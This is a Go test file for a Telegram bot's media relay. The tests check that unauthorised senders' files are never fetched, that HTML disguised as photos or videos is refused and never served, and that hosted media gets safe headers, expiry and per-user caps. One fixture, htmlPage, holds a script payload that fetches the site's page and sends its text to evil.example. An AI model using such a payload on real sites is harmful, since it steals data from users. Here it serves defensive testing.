package telegram_test

import (
	"context"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spindle-threads/spindle/bot/telegram"
	"github.com/spindle-threads/spindle/bot/telegram/telegramtest"
	"github.com/spindle-threads/spindle/storage"
)

// htmlPage is what an attacker uploads hoping the relay serves it as a page of Spindle's
// origin (and so reaches the status page with the operator's credentials).
var htmlPage = []byte(`<!DOCTYPE html><html><body><script>fetch("/").then(r=>r.text()).then(t=>new Image().src="https://evil.example/?"+encodeURIComponent(t))</script></body></html>`)

// mediaFiles lists what the door stored in its media directory (finished files only).
func (h *harness) mediaFiles() []string {
	h.t.Helper()
	entries, err := os.ReadDir(filepath.Join(h.dir, "media"))
	if err != nil && !os.IsNotExist(err) {
		h.t.Fatal(err)
	}
	var out []string
	for _, e := range entries {
		out = append(out, e.Name())
	}
	return out
}

// Someone the bot will not post for (not in TELEGRAM_ALLOWED_USERS, or without a linked or
// granted account) cannot make Spindle fetch and host their files: Telegram's getFile is
// never even called.
func TestMediaOfUnauthorisedSenderNeverDownloaded(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		o    options
		want string
	}{
		{"not allowed", options{allowed: []int64{alice.ID}}, "TELEGRAM_ALLOWED_USERS"},
		{"no account", options{unlinked: []int64{mallory.ID}}, "/connect"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t, polling, tc.o)
			chat := telegramtest.Private(mallory)
			h.deliver(
				h.tg.Photo(chat, mallory, h.tg.AddFile("photos/a.jpg", jpeg(1)), "/post store this for me", ""),
				h.tg.Photo(chat, mallory, h.tg.AddFile("photos/b.jpg", jpeg(2)), "a draft then", ""),
				h.tg.Video(chat, mallory, h.tg.AddFile("videos/c.mp4", mp4()), "", ""),
			)
			h.waitSent("refusing mallory", func(s telegramtest.Sent) bool { return s.ChatID == mallory.ID && strings.Contains(s.Text, tc.want) })
			// Alice's message after mallory's proves mallory's were all handled.
			h.deliver(h.tg.Text(telegramtest.Private(alice), alice, "/post after"))
			h.waitSent("confirming alice's post", func(s telegramtest.Sent) bool { return s.ChatID == alice.ID && strings.Contains(s.Text, "Queued") })
			if n := len(h.tg.Calls("getFile")) + len(h.tg.Calls("download")); n != 0 {
				t.Fatalf("%d getFile/download calls for a sender the bot will not post for, want 0", n)
			}
			if f := h.mediaFiles(); len(f) != 0 {
				t.Fatalf("media directory holds %v", f)
			}
		})
	}
}

// A web page sent as a video (or a photo) is refused at upload and never hosted; the relay
// never answers text/html, even for a row stored before types were checked.
func TestHTMLSentAsMediaRefusedNeverServed(t *testing.T) {
	t.Parallel()
	both(t, func(t *testing.T, m mode) {
		h := newHarness(t, m, options{})
		chat := telegramtest.Private(alice)
		h.deliver(h.tg.Video(chat, alice, h.tg.AddFile("videos/page.mp4", htmlPage), "/post look", ""))
		got := h.waitSent("refusing the page", func(s telegramtest.Sent) bool { return strings.Contains(s.Text, "not an MP4 or MOV video") })
		if len(got.Buttons) != 0 {
			t.Fatalf("refusal %+v offers buttons", got)
		}
		page := h.tg.Photo(chat, alice, h.tg.AddFile("photos/page.jpg", htmlPage), "", "")
		h.deliver(page)
		h.waitSent("refusing the page as a photo", func(s telegramtest.Sent) bool {
			return strings.Contains(s.Text, "not a JPEG or PNG photo") && s.ReplyTo == page.ID
		})
		// An MP4 sent as a photo is not a photo either. Wait for the answer to this very
		// message: the one above has the same words, and its download may still be running.
		clip := h.tg.Photo(chat, alice, h.tg.AddFile("photos/clip.jpg", mp4()), "", "")
		h.deliver(clip)
		h.waitSent("refusing a video as a photo", func(s telegramtest.Sent) bool {
			return strings.Contains(s.Text, "not a JPEG or PNG photo") && s.ReplyTo == clip.ID
		})
		if ps := h.posts(); len(ps) != 0 {
			t.Fatalf("posts %+v", ps)
		}
		if f := h.mediaFiles(); len(f) != 0 {
			t.Fatalf("media directory holds %v", f)
		}
	})
}

// A row stored as text/html (by an older Spindle) is not served; a good file is served with
// its stored type, nosniff, a sandboxing CSP and a Content-Disposition.
func TestRelayHeaders(t *testing.T) {
	t.Parallel()
	h := newHarness(t, polling, options{})
	ctx := context.Background()
	dir := filepath.Join(h.dir, "media")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for id, v := range map[string]struct {
		ct   string
		data []byte
	}{"AAAAAAAAAAAAAAAAAAAAAA": {"text/html; charset=utf-8", htmlPage}, "BBBBBBBBBBBBBBBBBBBBBB": {"image/svg+xml", []byte("<svg/>")},
		"CCCCCCCCCCCCCCCCCCCCCC": {"image/jpeg", jpeg(1)}} {
		if err := os.WriteFile(filepath.Join(dir, id), v.data, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := h.db.SaveHostedMedia(ctx, storage.HostedMedia{ID: id, DraftID: "d", FileName: id, ContentType: v.ct, Size: int64(len(v.data))}); err != nil {
			t.Fatal(err)
		}
	}
	for _, id := range []string{"AAAAAAAAAAAAAAAAAAAAAA", "BBBBBBBBBBBBBBBBBBBBBB"} {
		resp, err := http.Get(h.spindle.URL + telegram.MediaPath + id)
		if err != nil {
			t.Fatal(err)
		}
		telegramtest.DrainBody(resp.Body)
		if resp.StatusCode != http.StatusNotFound || strings.Contains(resp.Header.Get("Content-Type"), "html") || strings.Contains(resp.Header.Get("Content-Type"), "svg") {
			t.Fatalf("stored %s: %d %s, want 404", id, resp.StatusCode, resp.Header.Get("Content-Type"))
		}
	}
	resp, err := http.Get(h.spindle.URL + telegram.MediaPath + "CCCCCCCCCCCCCCCCCCCCCC")
	if err != nil {
		t.Fatal(err)
	}
	telegramtest.DrainBody(resp.Body)
	hd := resp.Header
	if resp.StatusCode != 200 || hd.Get("Content-Type") != "image/jpeg" || hd.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.HasPrefix(hd.Get("Content-Security-Policy"), "sandbox") || !strings.Contains(hd.Get("Content-Disposition"), `.jpg"`) {
		t.Fatalf("good file: %d %v", resp.StatusCode, hd)
	}
}

// An open draft nobody publishes expires after 24 hours and its media is deleted (files and
// rows); so are the files of a post that was cancelled. A press on the expired draft's
// Publish does nothing.
func TestExpiredAndCancelledMediaDeleted(t *testing.T) {
	t.Parallel()
	h := newHarness(t, polling, options{})
	ctx := context.Background()
	start := time.Now()
	h.clock.Set(start)
	chat := telegramtest.Private(alice)
	left := h.tg.Photo(chat, alice, h.tg.AddFile("photos/left.jpg", jpeg(1)), "left open", "")
	h.deliver(left)
	pv := h.waitSent("with the draft", func(s telegramtest.Sent) bool { return len(s.Buttons) == 3 })
	msg := h.tg.Photo(chat, alice, h.tg.AddFile("photos/cancel.jpg", jpeg(2)), "/post to cancel", "")
	h.deliver(msg)
	h.waitSent("queuing the photo", func(s telegramtest.Sent) bool { return strings.Contains(s.Text, "Queued") })
	ps := h.posts()
	if len(ps) != 1 || len(h.mediaFiles()) != 2 {
		t.Fatalf("posts %+v, files %v", ps, h.mediaFiles())
	}
	if _, err := h.db.Cancel(ctx, ps[0].ID); err != nil {
		t.Fatal(err)
	}
	dr, err := h.db.TelegramDraftByMessage(ctx, chat.ID, int64(left.ID))
	if err != nil || len(dr.Media) != 1 {
		t.Fatalf("draft %+v %v", dr, err)
	}
	if code := get(t, dr.Media[0].URL); code != 200 {
		t.Fatalf("open draft's media answered %d, want 200", code)
	}
	h.clock.Set(start.Add(23 * time.Hour))
	if _, err := h.door.Sweep(ctx); err != nil {
		t.Fatal(err)
	}
	h.clock.Set(start.Add(25 * time.Hour))
	if _, err := h.door.Sweep(ctx); err != nil {
		t.Fatal(err)
	}
	if f := h.mediaFiles(); len(f) != 0 {
		t.Fatalf("files left after expiry and cancel: %v", f)
	}
	if code := get(t, dr.Media[0].URL); code != 404 {
		t.Fatalf("expired draft's media answered %d, want 404", code)
	}
	if u, err := h.db.TelegramMediaUsage(ctx, alice.ID); err != nil || u.Files != 0 {
		t.Fatalf("usage %+v %v, want nothing held", u, err)
	}
	if due, err := h.db.DueHostedMedia(ctx, start.Add(100*time.Hour), 10); err != nil || len(due) != 0 {
		t.Fatalf("rows left: %+v %v", due, err)
	}
	h.deliver(h.tg.Press(alice, pv.Message(), button(pv, "Publish")))
	h.tg.WaitCalls("answerCallbackQuery", 1, wait)
	if c := h.tg.Calls("answerCallbackQuery"); c[0].Form.Get("text") != "Already discarded." {
		t.Fatalf("press on an expired draft answered %q", c[0].Form.Get("text"))
	}
	if n := len(h.posts()); n != 1 {
		t.Fatalf("%d posts, want only the cancelled one", n)
	}
}

// Files a crash left in the media directory (no row, or a half-written ".part-") are deleted
// once an hour old; hosted files and fresh ones are kept.
func TestSweepDeletesOrphanedFiles(t *testing.T) {
	t.Parallel()
	h := newHarness(t, polling, options{})
	ctx := context.Background()
	h.deliver(h.tg.Photo(telegramtest.Private(alice), alice, h.tg.AddFile("photos/kept.jpg", jpeg(1)), "", ""))
	h.waitSent("with the draft", func(s telegramtest.Sent) bool { return len(s.Buttons) == 3 })
	kept := h.mediaFiles()
	dir := filepath.Join(h.dir, "media")
	old := time.Now().Add(-2 * time.Hour)
	for _, name := range append([]string{"DDDDDDDDDDDDDDDDDDDDDD", ".part-123", "fresh-orphan"}, kept...) {
		p := filepath.Join(dir, name)
		if _, err := os.Stat(p); os.IsNotExist(err) {
			if err := os.WriteFile(p, jpeg(9), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if name != "fresh-orphan" {
			if err := os.Chtimes(p, old, old); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := h.door.Sweep(ctx); err != nil {
		t.Fatal(err)
	}
	got := strings.Join(h.mediaFiles(), ",")
	if want := strings.Join(append(kept, "fresh-orphan"), ","); got != want && got != "fresh-orphan,"+kept[0] {
		t.Fatalf("media directory holds %s, want %s", got, want)
	}
}

// One person cannot fill the disk: past the cap (files or bytes) a new photo is refused with
// the reason, without being downloaded.
func TestMediaCapPerPerson(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name  string
		tweak func(*telegram.Options)
		want  string
	}{
		{"files", func(o *telegram.Options) { o.MaxUserFiles = 2 }, "at most 2 files"},
		{"bytes", func(o *telegram.Options) { o.MaxUserBytes = 5000 }, "at most 50 files and 4 KB"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t, polling, options{tweak: tc.tweak})
			chat := telegramtest.Private(alice)
			for i := range 2 {
				h.deliver(h.tg.Photo(chat, alice, h.tg.AddFile("photos/ok.jpg", jpeg(i)), "", ""))
			}
			if n := len(h.tg.WaitCalls("download", 2, wait)); n != 2 {
				t.Fatalf("%d downloads, want 2", n)
			}
			h.deliver(h.tg.Photo(chat, alice, h.tg.AddFile("photos/more.jpg", jpeg(3)), "", ""))
			got := h.waitSent("refusing the third", func(s telegramtest.Sent) bool { return strings.Contains(s.Text, "Publish or discard some drafts") })
			if !strings.Contains(got.Text, tc.want) {
				t.Fatalf("refusal %q lacks %q", got.Text, tc.want)
			}
			if n := len(h.tg.Calls("download")); n != 2 {
				t.Fatalf("%d downloads, want 2: the third was fetched past the cap", n)
			}
			if f := h.mediaFiles(); len(f) != 2 {
				t.Fatalf("media directory holds %v, want 2 files", f)
			}
		})
	}
}

// mp4 returns bytes that start like an MP4 file.
func mp4() []byte {
	return append([]byte{0, 0, 0, 0x18, 'f', 't', 'y', 'p', 'm', 'p', '4', '2', 0, 0, 0, 0, 'm', 'p', '4', '2', 'i', 's', 'o', 'm'}, make([]byte, 4096)...)
}
